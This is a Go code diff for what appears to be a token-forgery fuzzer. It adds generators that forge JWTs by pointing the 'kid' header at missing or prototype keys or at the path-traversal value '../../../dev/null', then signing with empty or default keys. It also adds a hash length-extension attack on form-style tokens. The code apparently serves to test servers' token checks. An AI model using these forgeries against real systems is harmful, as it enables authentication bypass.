@@ -6,7 +6,11 @@ import (
 	"encoding/base64"
 	"encoding/json"
 	"fmt"
+	"slices"
 	"strings"
+	"unicode/utf8"
+
+	"sealab/fuzz/attack/tokenfmt"
 )
 
 // forgeries are states that need no key. Each says something else than the
@@ -27,6 +31,7 @@ func forgeries(token string) []variant {
 		if _, ok := v.object["alg"]; ok {
 			algNone(add, token, v)
 			ownKey(add, token, v)
+			missingKey(add, token, v)
 		}
 	}
 	for _, v := range views(token) {
@@ -35,6 +40,7 @@ func forgeries(token string) []variant {
 		}
 	}
 	otherHeads(add, token)
+	continued(add, token)
 	segments := segmentsOf(token)
 	knownTags(add, segments)
 	at := codedOf(segments)
@@ -157,16 +163,82 @@ func ownKey(add func(name, text string), token string, header view) {
 	text := quote(base64.RawURLEncoding.EncodeToString(key[:]))
 	hs256 := with(header.object, "alg", quote("HS256"))
 	signed := func(name string, members map[string]json.RawMessage) {
-		segments := segmentsOf(header.write(token, object(members)))
-		last := len(segments) - 1
-		mac := hmac.New(sha256.New, key[:])
-		mac.Write([]byte(strings.TrimRight(replaced(segments, last, ""), separators)))
-		add(name, replaced(segments, last, segments[last].write(mac.Sum(nil))))
+		add(name, signedUnder(key[:], header.write(token, object(members))))
 	}
 	signed("a key in the header", with(hs256, "jwk", object(map[string]json.RawMessage{"kty": quote("oct"), "k": text})))
 	for _, name := range sortedKeys(header.object) {
 		if raw := header.object[name]; name != "alg" && name != "typ" && len(raw) > 0 && raw[0] == '"' {
 			signed(fmt.Sprintf("a key in the header %q", name), with(hs256, name, text))
+		}
+	}
+}
+
+// signedUnder is a JWT with the tag of a key.
+func signedUnder(key []byte, token string) string {
+	segments := segmentsOf(token)
+	last := len(segments) - 1
+	if !segments[last].coded {
+		return ""
+	}
+	mac := hmac.New(sha256.New, key)
+	mac.Write([]byte(strings.TrimRight(replaced(segments, last, ""), separators)))
+	return replaced(segments, last, segments[last].write(mac.Sum(nil)))
+}
+
+// foundKeys are names of keys, each with the texts that careless readers find under it:
+// of a key that is missing, and of a member that every object has.
+var foundKeys = map[string][]string{
+	"sealab":            {"", "undefined", "null", "None"},
+	"__proto__":         {"", "[object Object]"},
+	"constructor":       {"function Object() { [native code] }"},
+	"toString":          {"function toString() { [native code] }"},
+	"../../../dev/null": {""},
+}
+
+// missingKey adds the JWT with the name of a key that the server has not, under what takes
+// the place of that key.
+func missingKey(add func(name, text string), token string, header view) {
+	names := []string{"kid"}
+	for _, name := range sortedKeys(header.object) {
+		if raw := header.object[name]; name != "alg" && name != "typ" && name != "kid" && len(raw) > 0 && raw[0] == '"' {
+			names = append(names, name)
+		}
+	}
+	for _, name := range names {
+		for _, id := range sortedKeys(foundKeys) {
+			for _, key := range foundKeys[id] {
+				add(fmt.Sprintf("%s %q and the key %q", name, id, key), signedUnder([]byte(key), header.write(token, object(with(header.object, name, quote(id))))))
+			}
+		}
+	}
+}
+
+// maxKey is the length of the longest key in front of a message that is tried.
+const maxKey = 64
+
+// continued adds forms, as a=1&b=2, to which their last member is appended once more, with
+// the hash of key || form continued: such a hash is no tag.
+func continued(add func(name, text string), token string) {
+	segments := segmentsOf(token)
+	at := codedOf(segments)
+	if len(at) < 2 {
+		return
+	}
+	body, tag := at[len(at)-2], at[len(at)-1]
+	form, digest := segments[body].raw(), segments[tag].raw()
+	end := strings.LastIndexByte(string(form), '&')
+	if end < 0 || !strings.Contains(string(form[end:]), "=") || !utf8.Valid(form) {
+		return
+	}
+	for _, chain := range tokenfmt.Chains {
+		for n := 1; n <= maxKey && len(digest) == chain.Size; n++ {
+			next, err := chain.Extend(digest, n+len(form), form[end:])
+			if err != nil {
+				break
+			}
+			longer := slices.Concat(form, chain.Padding(n+len(form)), form[end:])
+			text := replaced(segmentsOf(replaced(segments, tag, segments[tag].write(next))), body, segments[body].write(longer))
+			add(fmt.Sprintf("%s continued behind a key of %d bytes", chain.Name, n), text)
 		}
 	}
 }
